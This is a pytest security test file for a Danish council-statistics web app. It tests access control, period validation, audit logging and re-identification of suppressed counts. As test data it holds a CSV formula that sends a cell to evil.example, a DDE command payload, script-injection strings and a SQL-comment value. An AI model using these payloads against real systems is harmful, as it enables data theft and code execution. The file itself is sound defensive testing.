"""Attacks on the council pages and statistics by insiders (issue 13, helper C's review).

Each test is what one persona would try first: another district's member, a lokalråd member
reaching for the district, a former or future member, a plain member writing, a secretary
writing into another council, odd periods, and a statistician recovering hidden cells from
everything one account can download (page, CSV, PDF; every area; quarters and the year).
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from fractions import Fraction
from typing import Any, cast

import pytest
import time_machine
from django.db import connection
from django.template.loader import render_to_string
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

import core.pdf
from accounts.models import Municipality, PoliceDistrict, User
from audit.models import AccessEvent, AccessEventSubject
from councils import charts, statistics, views
from councils.models import (
    CooperationPlan,
    Council,
    CouncilMeeting,
    CouncilMembership,
    Figure,
    FocusArea,
    FocusAreaStatus,
    StatisticsRelease,
)
from councils.periods import Period
from persons.models import FocusPerson as Person
from tests.councils.conftest import IN_Q3, District, register
from tests.councils.test_statistics import page_tables
from tests.factories import UserFactory

IN_Q1 = datetime.datetime(2026, 2, 10, 10, 0, tzinfo=datetime.UTC)
NEXT_JANUARY = datetime.datetime(2027, 1, 5, 3, 0, tzinfo=datetime.UTC)
SMALL = "<5"
DASH = "\u2013"
NOT_RELEASED = "ikke opgjort"
ALL_PERIODS = ("2026-Q1", "2026-Q2", "2026-Q3", "2026-Q4")
KINDS = ("page", "csv", "pdf")


def small_counts(d: District) -> None:
    """Counts 1..4 next to counts just above the threshold, in two quarters and both
    municipalities: the shape that tempts arithmetic."""
    with time_machine.travel(IN_Q1, tick=False):
        register(d, d.ssp, d.teacher, d.school, "vold", 6, born=2012)
        register(d, d.psp, d.social_worker, d.social, "psykisk_saarbarhed", 2, born=1985)
    with time_machine.travel(IN_Q3, tick=False):
        register(d, d.ssp, d.teacher, d.school, "vold", 1, born=2011)
        register(d, d.psp, d.social_worker, d.social, "psykisk_saarbarhed", 5, born=1990)


def scope_of(d: District) -> statistics.Scope:
    return next(s for s in statistics.scopes() if s.district == d.district)


@pytest.fixture
def year(district: District) -> District:
    """The small dataset with 2026's four quarters released (there are no year releases)."""
    small_counts(district)
    with time_machine.travel(NEXT_JANUARY, tick=False):
        assert statistics.freeze_all(2026) == 4
    return district


@pytest.fixture
def quarter(district: District) -> District:
    """Only the third quarter released (the year is not out)."""
    small_counts(district)
    assert statistics.freeze(scope_of(district), Period(2026, 3)) is not None
    return district


def url(council: Council, kind: str = "page") -> str:
    return {
        "page": f"/raad/{council.pk}/statistik/",
        "csv": f"/raad/{council.pk}/statistik.csv",
        "pdf": f"/raad/{council.pk}/statistik.pdf",
    }[kind]


def other_district() -> tuple[Council, Municipality]:
    district = PoliceDistrict.objects.create(name="Naboredsen")
    cby = Municipality.objects.create(code="903", name="Cby", police_district=district)
    council = Council.objects.create(
        name="Kredsrådet i Naboredsen", kind=Council.Kind.KREDSRAAD, police_district=district
    )
    return council, cby


def comparable(content: bytes, path: str) -> bytes:
    """A response without what differs on every render (the masked CSRF token) or echoes
    the path asked for."""
    content = re.sub(rb'name="csrfmiddlewaretoken" value="[^"]*"', b"", content)
    for variant in (path, path.split("?")[0], path.replace("&", "&amp;")):
        content = content.replace(variant.encode(), b"")
    return content


def statistics_events() -> int:
    return AccessEvent.objects.filter(action=AccessEvent.Action.VIEW_STATISTICS).count()


def assert_no_figures(response: Any) -> None:
    body = response.content.decode()
    assert 'id="tabel-' not in body and 'class="chart"' not in body
    assert not response["Content-Type"].startswith(("text/csv", "application/pdf"))


# --- who may see which council ---------------------------------------------------------------


def test_another_districts_council_answers_as_a_missing_one(quarter: District, client: Client):
    foreign, _cby = other_district()
    CouncilMeeting.objects.create(council=foreign, held_on=datetime.date(2026, 9, 1))
    meeting = CouncilMeeting.objects.get(council=foreign)
    client.force_login(quarter.member)
    before = statistics_events()
    missing = 10**9
    for path in (
        "/raad/{}/",
        "/raad/{}/statistik/?omraade=alle&periode=2026-Q3",
        "/raad/{}/statistik.csv?omraade=alle&periode=2026-Q3",
        "/raad/{}/statistik.pdf?omraade=alle&periode=2026-Q3",
        f"/raad/{{}}/moeder/{meeting.pk}/",
    ):
        real = client.get(path.format(foreign.pk))
        fake = client.get(path.format(missing))
        assert real.status_code == fake.status_code == 404
        assert foreign.name not in real.content.decode()
        real_path, fake_path = path.format(foreign.pk), path.format(missing)
        assert comparable(real.content, real_path) == comparable(fake.content, fake_path)
    assert statistics_events() == before
    listing = client.get("/raad/").content.decode()
    assert foreign.name not in listing and quarter.kredsraad.name in listing


def test_a_kredsraad_member_gets_no_lokalraad_statistics(quarter: District, client: Client):
    """The lokalråd of a municipality in one's own district, and one elsewhere: both 404 (a
    kredsråd membership is no membership of its lokalråd)."""
    _foreign, cby = other_district()
    elsewhere = Council.objects.create(
        name="Lokalrådet i Cby", kind=Council.Kind.LOKALRAAD, municipality=cby
    )
    client.force_login(quarter.member)
    before = statistics_events()
    for council, area in ((quarter.lokalraad, quarter.aby.code), (elsewhere, cby.code)):
        for kind in KINDS:
            response = client.get(url(council, kind), {"omraade": area, "periode": "2026-Q3"})
            assert response.status_code == 404
            assert_no_figures(response)
    assert statistics_events() == before


@pytest.mark.parametrize("kind", KINDS)
def test_an_area_outside_the_council_is_refused_without_figures(
    quarter: District, client: Client, kind: str
):
    _foreign, cby = other_district()
    client.force_login(quarter.member)
    before = statistics_events()
    for area in (cby.code, "999", "", "ALLE", "alle ", "901,902", "../alle"):
        response = client.get(
            url(quarter.kredsraad, kind), {"omraade": area or " ", "periode": "2026-Q3"}
        )
        assert response.status_code == 400, area
        assert_no_figures(response)
        assert "Vælg et af de områder, rådet følger." in response.content.decode()
    assert statistics_events() == before


@pytest.mark.parametrize("kind", KINDS)
def test_a_lokalraad_member_gets_neither_the_district_nor_the_neighbour(
    quarter: District, client: Client, kind: str
):
    client.force_login(quarter.local_member)
    before = statistics_events()
    for area in ("alle", quarter.bby.code):
        response = client.get(url(quarter.lokalraad, kind), {"omraade": area, "periode": "2026-Q3"})
        assert response.status_code == 400
        assert_no_figures(response)
    # Nor through the kredsråd, which they are not a member of.
    response = client.get(url(quarter.kredsraad, kind), {"omraade": "alle", "periode": "2026-Q3"})
    assert response.status_code == 404
    assert statistics_events() == before
    own = client.get(
        url(quarter.lokalraad, kind), {"omraade": quarter.aby.code, "periode": "2026-Q3"}
    )
    assert own.status_code == 200
    assert statistics_events() == before + 1


@pytest.mark.parametrize(
    ("valid_from", "valid_to"),
    [
        (datetime.date(2026, 1, 1), -1),  # ended yesterday
        (1, None),  # starts tomorrow
    ],
)
def test_former_and_future_members_see_no_council(
    quarter: District, client: Client, valid_from: Any, valid_to: Any
):
    today = timezone.localdate()
    shift = lambda v: today + datetime.timedelta(days=v) if isinstance(v, int) else v  # noqa: E731
    user = cast(
        "User", UserFactory(full_name="Tidligere Medlem", agency=quarter.police, roles=["council"])
    )
    CouncilMembership.objects.create(
        council=quarter.kredsraad,
        user=user,
        role=CouncilMembership.Role.SECRETARY,
        valid_from=shift(valid_from),
        valid_to=shift(valid_to),
    )
    client.force_login(user)
    before = statistics_events()
    pk = quarter.kredsraad.pk
    for path in (
        f"/raad/{pk}/",
        f"/raad/{pk}/statistik/?omraade=alle&periode=2026-Q3",
        f"/raad/{pk}/statistik.csv?omraade=alle&periode=2026-Q3",
        f"/raad/{pk}/statistik.pdf?omraade=alle&periode=2026-Q3",
        f"/raad/{pk}/moeder/nyt/",
        f"/raad/{pk}/indsatsomraader/{quarter.focus.pk}/status/",
    ):
        assert client.get(path).status_code == 404, path
    posted = client.post(
        f"/raad/{pk}/indsatsomraader/{quarter.focus.pk}/status/",
        {"written_on": "2026-11-30", "progress": "on_track", "text": "Sneget ind"},
    )
    assert posted.status_code == 404
    assert not FocusAreaStatus.objects.exists()
    assert quarter.kredsraad.name not in client.get("/raad/").content.decode()
    assert statistics_events() == before


def test_a_council_member_reaches_no_person_api_or_dpo_page(quarter: District, client: Client):
    person = Person.objects.first()
    assert person is not None
    client.force_login(quarter.member)
    pseudonyms = list(Person.objects.values_list("pseudonym", flat=True))
    for path in (
        "/personer/",
        f"/personer/{person.pk}/",
        f"/personer/{person.pk}/vis-identitet/",
        f"/personer/{person.pk}/indsigt/",
        f"/fora/{quarter.ssp.pk}/",
        "/audit/",
        "/audit/adgang/",
        f"/audit/personer/{person.pseudonym}/",
        "/audit/fortegnelse/",
        "/api/v1/audit/disclosures/",
        "/api/v1/my/actions/",
    ):
        response = client.get(path)
        assert response.status_code == 403, (path, response.status_code)
        # The path asked for may be echoed (it is the attacker's own input); nothing else.
        body = response.content.decode().replace(path, "")
        assert not any(p in body for p in pseudonyms), path
        assert "Person " not in body, path


# --- writes -----------------------------------------------------------------------------------


def test_a_plain_member_writes_nothing(quarter: District, client: Client):
    client.force_login(quarter.member)
    pk = quarter.kredsraad.pk
    meeting = CouncilMeeting.objects.create(
        council=quarter.kredsraad, held_on=datetime.date(2026, 9, 1)
    )
    status = client.post(
        f"/raad/{pk}/indsatsomraader/{quarter.focus.pk}/status/",
        {"written_on": "2026-11-30", "progress": "done", "text": "Forfalsket"},
    )
    created = client.post(f"/raad/{pk}/moeder/nyt/", {"held_on": "2026-11-30", "minutes": "Falsk"})
    edited = client.post(
        f"/raad/{pk}/moeder/{meeting.pk}/rediger/", {"held_on": "2026-11-30", "minutes": "Falsk"}
    )
    assert (status.status_code, created.status_code, edited.status_code) == (403, 403, 403)
    assert not FocusAreaStatus.objects.exists()
    assert CouncilMeeting.objects.count() == 1
    meeting.refresh_from_db()
    assert meeting.minutes == ""


def test_a_secretary_writes_nothing_into_another_council(quarter: District, client: Client):
    foreign, _cby = other_district()
    plan = CooperationPlan.objects.create(
        council=foreign,
        title="Naboplan",
        period_start=datetime.date(2026, 1, 1),
        period_end=datetime.date(2026, 12, 31),
    )
    area = FocusArea.objects.create(plan=plan, title="Naboområde")
    meeting = CouncilMeeting.objects.create(council=foreign, held_on=datetime.date(2026, 9, 1))
    client.force_login(quarter.secretary)
    own = quarter.kredsraad.pk
    data = {"written_on": "2026-11-30", "progress": "done", "text": "Indsmuglet"}
    for path in (
        f"/raad/{own}/indsatsomraader/{area.pk}/status/",
        f"/raad/{foreign.pk}/indsatsomraader/{area.pk}/status/",
        f"/raad/{foreign.pk}/indsatsomraader/{quarter.focus.pk}/status/",
    ):
        assert client.post(path, data).status_code == 404, path
    meeting_data = {"held_on": "2026-11-30", "minutes": "Indsmuglet"}
    for path in (
        f"/raad/{own}/moeder/{meeting.pk}/rediger/",
        f"/raad/{foreign.pk}/moeder/{meeting.pk}/rediger/",
        f"/raad/{foreign.pk}/moeder/nyt/",
    ):
        assert client.post(path, meeting_data).status_code == 404, path
    # Another council's focus area smuggled into one's own meeting.
    response = client.post(
        f"/raad/{own}/moeder/nyt/", {"held_on": "2026-11-30", "focus_areas": [area.pk]}
    )
    assert response.status_code == 400
    assert not FocusAreaStatus.objects.exists()
    assert list(CouncilMeeting.objects.all()) == [meeting]
    meeting.refresh_from_db()
    assert meeting.minutes == ""


def test_a_status_never_attaches_to_another_councils_meeting(quarter: District, client: Client):
    foreign, _cby = other_district()
    meeting = CouncilMeeting.objects.create(council=foreign, held_on=datetime.date(2026, 9, 1))
    client.force_login(quarter.secretary)
    response = client.post(
        f"/raad/{quarter.kredsraad.pk}/indsatsomraader/{quarter.focus.pk}/status/",
        {
            "written_on": "2026-11-30",
            "progress": "done",
            "text": "Med fremmed møde",
            "meeting": meeting.pk,
        },
    )
    assert response.status_code == 400
    assert "meeting" in response.context["form"].errors
    assert not FocusAreaStatus.objects.exists()


# --- periods ----------------------------------------------------------------------------------


BAD_PERIODS = [
    "2026-08",  # a month
    "2026-W33",  # a week
    "2026-08-14",
    "2026-Q5",
    "2026-Q0",
    "2026-Q3 ",
    " 2026-Q3",
    "2026-q3",
    "2026Q3",
    "2026-Q4",  # not ended
    "2026",  # a year: never released (a year is its quarters)
    "2025-Q3",  # ended, never released
    "1999",
    "garbage",
    "2026-Q3'--",
    "%00",
    "\x00",
    "9" * 10_000,
    "2026-Q3" * 2000,
]


@pytest.mark.parametrize("code", BAD_PERIODS, ids=lambda c: repr(c)[:20])
@pytest.mark.parametrize("kind", KINDS)
def test_a_period_that_is_not_a_released_quarter_or_year_is_400(
    quarter: District, client: Client, kind: str, code: str
):
    client.force_login(quarter.member)
    before = statistics_events()
    response = client.get(url(quarter.kredsraad, kind), {"omraade": "alle", "periode": code})
    assert response.status_code == 400
    assert_no_figures(response)
    # A NUL never reaches the view: the request guard refuses it, in Danish.
    message = "Ugyldigt tegn" if "\x00" in code else "Vælg en opgjort periode"
    assert message in response.content.decode()
    assert statistics_events() == before


@pytest.mark.parametrize("code", ["2026-Q3\n", "\u0662\u0660\u0662\u0666-Q3"])
def test_a_period_code_is_exactly_the_ascii_code(quarter: District, client: Client, code: str):
    client.force_login(quarter.member)
    response = client.get(url(quarter.kredsraad), {"omraade": "alle", "periode": code})
    assert response.status_code == 400


def test_no_period_shorter_than_a_quarter_exists(year: District):
    for code in StatisticsRelease.objects.values_list("period", flat=True):
        period = Period.parse(code)
        assert period is not None and period.code == code
        assert period.end_day - period.first_day >= datetime.timedelta(days=90)


# --- what the downloads contain ---------------------------------------------------------------


@dataclass(frozen=True)
class Download:
    area: str
    period: str
    kind: str
    text: str


def pdf_html(client: Client, path: str, params: dict[str, str], monkeypatch: Any) -> str:
    """The HTML the PDF is made from (its text; the PDF itself is compressed)."""
    seen: list[str] = []
    original = core.pdf.render_pdf

    def capture(template: str, context: dict[str, Any], request: Any) -> bytes:
        seen.append(render_to_string(template, context, request))
        return original(template, context, request)

    monkeypatch.setattr(views, "render_pdf", capture)
    response = client.get(path, params)
    assert response.status_code == 200 and response.content.startswith(b"%PDF")
    monkeypatch.setattr(views, "render_pdf", original)
    return seen[0]


def downloads(d: District, client: Client, monkeypatch: Any) -> Iterator[Download]:
    """Everything the kredsråd member can download of the released periods."""
    client.force_login(d.member)
    for area in ("alle", d.aby.code, d.bby.code):
        for period in ALL_PERIODS:
            params = {"omraade": area, "periode": period}
            page = client.get(url(d.kredsraad), params)
            assert page.status_code == 200, params
            yield Download(area, period, "page", page.content.decode())
            download = client.get(url(d.kredsraad, "csv"), params)
            assert download.status_code == 200
            yield Download(area, period, "csv", download.content.decode())
            yield Download(
                area, period, "pdf", pdf_html(client, url(d.kredsraad, "pdf"), params, monkeypatch)
            )


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=";"))[1:]


def figures_of(download: Download) -> list[str]:
    if download.kind == "csv":
        return [cell for row in csv_rows(download.text) for cell in (row[4], row[6])]
    tables = page_tables(download.text)
    return [cell for rows in tables.values() for row in rows for cell in row[1:]]


def test_no_download_shows_a_small_count_a_name_or_a_pseudonym(
    year: District, client: Client, monkeypatch: Any
):
    persons = list(Person.objects.all())
    assert len(persons) == 14
    secrets = [p.pseudonym for p in persons] + [
        "Person ",
        "Tina Lærer",
        "Sara Social",
        "Ole Betjent",
    ]
    seen = 0
    for download in downloads(year, client, monkeypatch):
        for figure in figures_of(download):
            assert figure in (SMALL, DASH, NOT_RELEASED) or int(figure) == 0 or int(figure) >= 5, (
                download.area,
                download.period,
                download.kind,
                figure,
            )
            seen += 1
        for secret in secrets:
            assert secret not in download.text, (download.kind, secret)
        if download.kind != "csv":
            svgs = "".join(re.findall(r"<svg.*?</svg>", download.text, re.S))
            texts = re.findall(r"<text[^>]*>\s*([0-9]+)\s*</text>", svgs)
            assert all(int(t) == 0 or int(t) >= 5 for t in texts), texts
    assert seen > 1000


def test_every_hidden_cell_shows_its_marker_in_every_download(
    year: District, client: Client, monkeypatch: Any
):
    hidden = {
        (f.release.period, f.area, f.table, f.row): f.hidden
        for f in Figure.objects.select_related("release").exclude(hidden="")
    }
    assert any(h == "small" for h in hidden.values())
    assert any(h == "secondary" for h in hidden.values())
    for download in downloads(year, client, monkeypatch):
        if download.kind != "csv":
            continue
        by_label = {(r[0], r[1]): r[4] for r in csv_rows(download.text)}
        stats_rows = _row_keys()
        for (title, label), shown in by_label.items():
            measure, row = stats_rows[(title, label)]
            state = hidden.get((download.period, download.area, measure, row))
            expected = {"small": SMALL, "secondary": DASH}.get(state or "")
            if expected:
                assert shown == expected, (download.area, download.period, title, label)


def _row_keys() -> dict[tuple[str, str], tuple[str, str]]:
    """(table title, row label) -> (measure code, stored row key)."""
    keys: dict[tuple[str, str], tuple[str, str]] = {}
    for measure in statistics.MEASURES:
        for _code, title, dim in measure.tables:
            others = [statistics.ALL] * len(measure.rows)
            for code, label in measure.rows[dim].leaves():
                key = others.copy()
                key[dim] = code
                keys[(str(title), str(label))] = (measure.code, "|".join(key))
            if measure.rows[dim].total is not None:
                keys[(str(title), str(measure.rows[dim].total))] = (measure.code, "|".join(others))
    return keys


# --- the attacker: everything one member can download, as equations ---------------------------

Var = tuple[str, str, str, str]  # (measure, row key, area, period)


@dataclass
class Knowledge:
    published: dict[Var, int]
    hidden: dict[Var, str]  # the marker shown
    equations: list[tuple[Var, list[Var]]]  # total = sum(parts)


def gather(d: District, client: Client) -> Knowledge:
    """Read every CSV the kredsråd member can download (the CSV equals the page and the PDF,
    test_statistics) and write down what an attacker knows: the published cells, the hidden
    ones, and every sum the tables' structure promises."""
    keys = _row_keys()
    published: dict[Var, int] = {}
    hidden: dict[Var, str] = {}
    client.force_login(d.member)
    areas = (d.aby.code, d.bby.code)
    for area in ("alle", *areas):
        for period in ALL_PERIODS:
            response = client.get(url(d.kredsraad, "csv"), {"omraade": area, "periode": period})
            assert response.status_code == 200
            for row in csv_rows(response.content.decode()):
                measure_code, key = keys[(row[0], row[1])]
                var = (measure_code, key, area, period)
                if row[4] in (SMALL, DASH):
                    hidden[var] = row[4]
                else:
                    published[var] = int(row[4])
    variables = set(published) | set(hidden)
    equations: list[tuple[Var, list[Var]]] = []
    for measure in statistics.MEASURES:
        for _code, _title, dim in measure.tables:
            if measure.rows[dim].total is None:
                continue
            others = [statistics.ALL] * len(measure.rows)
            total_key = "|".join(others)
            leaves = []
            for code, _label in measure.rows[dim].leaves():
                nodes = others.copy()
                nodes[dim] = code
                leaves.append("|".join(nodes))
            for area in ("alle", *areas):
                for period in ALL_PERIODS:
                    equations.append(
                        (
                            (measure.code, total_key, area, period),
                            [(measure.code, leaf, area, period) for leaf in leaves],
                        )
                    )
    for measure_code, key, area, period in sorted(variables):
        if area == "alle":
            parts = [(measure_code, key, a, period) for a in areas]
            equations.append(((measure_code, key, area, period), parts))
    for total, parts in equations:
        assert total in variables and all(p in variables for p in parts), total
    return Knowledge(published, hidden, equations)


def linear_recoveries(knowledge: Knowledge) -> dict[Var, Fraction]:
    """Gauss-Jordan over the rationals on the hidden cells: a hidden cell whose row reduces to
    itself alone is recovered, with its value."""
    hidden = sorted(knowledge.hidden)
    column = {v: i for i, v in enumerate(hidden)}
    rows: list[tuple[dict[int, Fraction], Fraction]] = []
    for total, parts in knowledge.equations:
        coefficients: dict[int, Fraction] = {}
        constant = Fraction(0)  # sum(coefficient * hidden) == constant
        for var, sign in [(total, 1), *((p, -1) for p in parts)]:
            if var in column:
                coefficients[column[var]] = coefficients.get(column[var], Fraction(0)) + sign
            else:
                constant -= sign * knowledge.published[var]
        coefficients = {c: v for c, v in coefficients.items() if v}
        if coefficients:
            rows.append((coefficients, constant))
    pivots: dict[int, tuple[dict[int, Fraction], Fraction]] = {}
    for coefficients, constant in rows:
        row, rhs = dict(coefficients), constant
        for col in [c for c in row if c in pivots]:
            factor = row.get(col, Fraction(0))
            if factor:
                prow, prhs = pivots[col]
                for c, v in prow.items():
                    row[c] = row.get(c, Fraction(0)) - factor * v
                rhs -= factor * prhs
                row = {c: v for c, v in row.items() if v}
        if not row:
            assert rhs == 0, "the published figures contradict each other"
            continue
        col = min(row)
        scale = row[col]
        row = {c: v / scale for c, v in row.items()}
        rhs /= scale
        for other, (orow, orhs) in list(pivots.items()):
            factor = orow.get(col, Fraction(0))
            if factor:
                new = dict(orow)
                for c, v in row.items():
                    new[c] = new.get(c, Fraction(0)) - factor * v
                pivots[other] = ({c: v for c, v in new.items() if v}, orhs - factor * rhs)
        pivots[col] = (row, rhs)
    return {hidden[col]: rhs for col, (row, rhs) in pivots.items() if len(row) == 1}


def test_no_hidden_cell_follows_by_linear_arithmetic_from_all_downloads(
    year: District, client: Client
):
    knowledge = gather(year, client)
    assert SMALL in knowledge.hidden.values()
    # The attacker's equations hold on the truth (the attack is sound, not just unsuccessful).
    truth = {
        (f.table, f.row, f.area, f.release.period): f.count
        for f in Figure.objects.select_related("release")
    }
    for total, parts in knowledge.equations:
        assert truth[total] == sum(truth[p] for p in parts)
    # A 0 shown as "<5" beside a small count may follow (it is 0); never a count 1..4.
    recovered = linear_recoveries(knowledge)
    assert all(value == 0 and truth[cell] == 0 for cell, value in recovered.items()), recovered
    masked = {
        (f.table, f.row, f.area, f.release.period)
        for f in Figure.objects.select_related("release").filter(hidden=Figure.Hidden.MASKED)
    }
    assert set(recovered) <= masked


def test_the_linear_attacker_does_recover_a_lonely_hidden_cell():
    """The attacker is not toothless: one hidden part of a published total is found."""
    a, b, t = ("m", "a", "alle", "2026"), ("m", "b", "alle", "2026"), ("m", "t", "alle", "2026")
    knowledge = Knowledge({a: 7, t: 10}, {b: SMALL}, [(t, [a, b])])
    assert linear_recoveries(knowledge) == {b: Fraction(3)}


def interval_recoveries(knowledge: Knowledge) -> dict[Var, tuple[int, int]]:
    """Bounds propagation with what the page note tells everyone: a "<5" is 0..4 (a 0 in a
    sum with a small count shows as "<5" too), and a dash is hidden to protect one, so it is
    not itself 1..4 (it is 0 or at least 5). Returns the "<5" cells pinned to one count."""
    big = 10**9
    # A 0 shows as "<5" only among the parts of a "<5" total: any other "<5" is a real
    # count, at least 1.
    beside_small: set[Var] = set()
    for total, parts in knowledge.equations:
        if knowledge.hidden.get(total) == SMALL:
            beside_small.update(p for p in parts if knowledge.hidden.get(p) == SMALL)
    low = {
        v: (1 if m == SMALL and v not in beside_small else 0) for v, m in knowledge.hidden.items()
    }
    high = {v: (4 if m == SMALL else big) for v, m in knowledge.hidden.items()}
    for v, n in knowledge.published.items():
        low[v] = high[v] = n
    changed = True
    while changed:
        changed = False
        for total, parts in knowledge.equations:
            bounds = {
                total: (sum(low[p] for p in parts), sum(high[p] for p in parts)),
                **{
                    p: (
                        low[total] - sum(high[q] for q in parts if q != p),
                        high[total] - sum(low[q] for q in parts if q != p),
                    )
                    for p in parts
                },
            }
            for var, (lo, hi) in bounds.items():
                lo, hi = max(lo, low[var]), min(hi, high[var])
                if knowledge.hidden.get(var) == DASH:
                    lo = 5 if 1 <= lo <= 4 else lo
                    hi = 0 if 1 <= hi <= 4 else hi
                if (lo, hi) != (low[var], high[var]):
                    low[var], high[var] = lo, hi
                    changed = True
    return {
        v: (low[v], high[v])
        for v, m in knowledge.hidden.items()
        if m == SMALL and low[v] == high[v] >= 1  # a "<5" pinned at 0 is a shown 0: no one
    }


def test_the_interval_attacker_is_sound_on_a_textbook_case():
    s, d, t = ("m", "s", "alle", "2026"), ("m", "d", "alle", "2026"), ("m", "t", "alle", "2026")
    knowledge = Knowledge({t: 6}, {s: SMALL, d: DASH}, [(t, [s, d])])
    assert interval_recoveries(knowledge) == {s: (1, 1)}
    knowledge = Knowledge({t: 13}, {s: SMALL, d: DASH}, [(t, [s, d])])
    assert interval_recoveries(knowledge) == {}


def test_no_small_cell_is_narrowed_by_bounds_over_all_downloads(year: District, client: Client):
    knowledge = gather(year, client)
    assert interval_recoveries(knowledge) == {}


def test_the_district_page_does_not_give_away_the_one_new_ssp_case(
    quarter: District, client: Client
):
    client.force_login(quarter.member)
    response = client.get(url(quarter.kredsraad), {"omraade": "alle", "periode": "2026-Q3"})
    rows = {r[0]: r[1] for r in page_tables(response.content.decode())["tabel-opened_kind"]}
    total = rows.pop("Alle forumtyper")
    if not total.isdigit():
        return  # a hidden total gives no bound
    shown = sum(int(v) for v in rows.values() if v.isdigit())
    smalls = [v for v in rows.values() if v == SMALL]
    dashes = [v for v in rows.values() if v == DASH]
    # A dash is 0 or at least 5 (the page note says 1..4 show as "<5"), so with one "<5" and
    # one dash the small one is at most total - shown - 5, which must leave it 1..4.
    assert not (len(smalls) == 1 and len(dashes) == 1 and int(total) - shown - 5 < 4)


# --- audit ------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["page", "csv", "pdf", "meeting"])
def test_every_view_is_one_aggregate_event(quarter: District, client: Client, kind: str):
    meeting = CouncilMeeting.objects.create(
        council=quarter.kredsraad, held_on=datetime.date(2026, 11, 1)
    )
    meeting.focus_areas.set([quarter.focus])
    client.force_login(quarter.member)
    before = list(AccessEvent.objects.values_list("pk", flat=True))
    subjects = AccessEventSubject.objects.count()
    if kind == "meeting":
        response = client.get(f"/raad/{quarter.kredsraad.pk}/moeder/{meeting.pk}/")
    else:
        response = client.get(
            url(quarter.kredsraad, kind), {"omraade": "902", "periode": "2026-Q3"}
        )
    assert response.status_code == 200
    events = list(AccessEvent.objects.exclude(pk__in=before))
    assert len(events) == 1
    event = events[0]
    assert event.action == AccessEvent.Action.VIEW_STATISTICS
    assert event.actor == quarter.member
    assert event.person_ids == [] and event.person_pseudonyms == []
    assert event.object_ids == [str(quarter.kredsraad.pk)]
    assert AccessEventSubject.objects.count() == subjects
    pseudonyms = Person.objects.values_list("pseudonym", flat=True)
    assert not any(p in event.search_criterion + event.reason for p in pseudonyms)


# --- injection --------------------------------------------------------------------------------


def test_csv_cells_never_start_a_formula(quarter: District, client: Client):
    quarter.aby.name = '=HYPERLINK("http://evil.example/?"&A1;"klik")'
    quarter.aby.save()
    quarter.bby.name = "@SUM(1+1)"
    quarter.bby.save()
    quarter.district.name = "+cmd|' /C calc'!A0"
    quarter.district.save()
    client.force_login(quarter.member)
    for area in ("alle", "901", "902"):
        response = client.get(
            url(quarter.kredsraad, "csv"), {"omraade": area, "periode": "2026-Q3"}
        )
        assert response.status_code == 200
        for row in csv_rows(response.content.decode()):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def test_council_texts_are_escaped_on_every_page(
    quarter: District, client: Client, monkeypatch: Any
):
    quarter.focus.title = "Fokus " + XSS
    quarter.focus.description = XSS
    quarter.focus.save()
    quarter.plan.title = "Plan " + XSS
    quarter.plan.save()
    quarter.kredsraad.name = "Råd " + XSS
    quarter.kredsraad.save()
    client.force_login(quarter.secretary)
    pk = quarter.kredsraad.pk
    created = client.post(
        f"/raad/{pk}/moeder/nyt/",
        {
            "held_on": "2026-11-01",
            "location": XSS,
            "agenda": XSS,
            "minutes": XSS,
            "focus_areas": [quarter.focus.pk],
        },
    )
    assert created.status_code == 302
    meeting = CouncilMeeting.objects.get()
    posted = client.post(
        f"/raad/{pk}/indsatsomraader/{quarter.focus.pk}/status/",
        {"written_on": "2026-11-01", "progress": "delayed", "text": XSS, "meeting": meeting.pk},
    )
    assert posted.status_code == 302
    params = {"omraade": "alle", "periode": "2026-Q3"}
    pages = [
        client.get("/raad/").content.decode(),
        client.get(f"/raad/{pk}/").content.decode(),
        client.get(url(quarter.kredsraad), params).content.decode(),
        client.get(f"/raad/{pk}/moeder/{meeting.pk}/").content.decode(),
        client.get(f"/raad/{pk}/moeder/{meeting.pk}/rediger/").content.decode(),
        client.get(f"/raad/{pk}/indsatsomraader/{quarter.focus.pk}/status/").content.decode(),
        pdf_html(client, url(quarter.kredsraad, "pdf"), params, monkeypatch),
    ]
    for html in pages:
        assert "<script>alert" not in html and "<img src=x" not in html
        assert "&lt;script&gt;" in html


def test_chart_text_is_escaped():
    svg = charts.bar_chart(
        title=XSS,
        rows=[charts.Bar(XSS, 7, SMALL), charts.Bar("</text><script>", DASH, 0)],
        table_id="tabel-x",
        current_label=XSS,
        previous_label="</svg><script>",
    )
    assert "<script" not in svg and "<img" not in svg and "</svg><" not in svg[:-6]


# --- query count ------------------------------------------------------------------------------


def count_queries(client: Client, path: str, params: dict[str, str]) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get(path, params).status_code == 200
    return len(queries)


def test_query_count_does_not_grow_with_the_data(year: District, client: Client):
    client.force_login(year.member)
    pk = year.kredsraad.pk
    meeting = CouncilMeeting.objects.create(
        council=year.kredsraad, held_on=datetime.date(2026, 11, 1)
    )
    meeting.focus_areas.set([year.focus])
    params = {"omraade": "alle", "periode": "2026-Q3"}
    small = [
        count_queries(client, f"/raad/{pk}/statistik/", params),
        count_queries(client, f"/raad/{pk}/", {}),
        count_queries(client, f"/raad/{pk}/moeder/{meeting.pk}/", {}),
        count_queries(client, f"/raad/{pk}/statistik.csv", params),
    ]
    for n in range(6):
        area = FocusArea.objects.create(
            plan=year.plan, title=f"Område {n}", categories=["vold"], order=n + 1
        )
        area.forums.set([year.ssp, year.psp])
        area.agencies.set([year.school, year.police, year.social])
        for day in range(1, 4):
            FocusAreaStatus.objects.create(
                area=area,
                progress="on_track",
                text=f"Status {day}",
                written_on=datetime.date(2026, 10, day),
                author=year.secretary,
                meeting=meeting,
            )
        meeting.focus_areas.add(area)
        CouncilMeeting.objects.create(
            council=year.kredsraad, held_on=datetime.date(2026, 10, n + 1)
        )
    # And the Q1 page, made from more concerns than Q3.
    large = [
        count_queries(client, f"/raad/{pk}/statistik/", {**params, "periode": "2026-Q1"}),
        count_queries(client, f"/raad/{pk}/", {}),
        count_queries(client, f"/raad/{pk}/moeder/{meeting.pk}/", {}),
        count_queries(client, f"/raad/{pk}/statistik.csv", {**params, "periode": "2026-Q4"}),
    ]
    assert large == small


def test_four_small_age_bands_are_not_each_exactly_one(district: District, client: Client):
    d = district
    with time_machine.travel(IN_Q3, tick=False):
